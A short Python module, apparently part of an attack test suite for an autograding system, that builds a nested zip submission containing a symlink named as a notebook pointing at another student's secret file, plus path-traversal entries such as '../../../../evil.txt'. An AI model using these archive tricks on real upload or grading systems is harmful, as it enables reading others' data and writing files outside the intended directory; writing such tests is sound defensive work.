"""Puts the link into an archive that it hands in instead of a notebook."""

import io
import stat
import zipfile
from pathlib import Path

from autograde.attacks.archives.people import Cast
from autograde.attacks.archives.zipping import entry, pack


def archive(path: Path, cast: Cast) -> None:
    """Write the archive."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as nested:
        nested.writestr(entry("aufgabe1.ipynb", stat.S_IFLNK | 0o777), str(cast.secrets["earlier"]))
        nested.writestr(entry("b.ipynb"), b"{}")
        nested.writestr(entry("../../../../evil.txt"), b"x")
        nested.writestr(entry(f"{cast.outside}/evil.txt"), b"x")
    pack(path, cast, {cast.mine("abgabe.zip"): inner.getvalue()}, own=False)
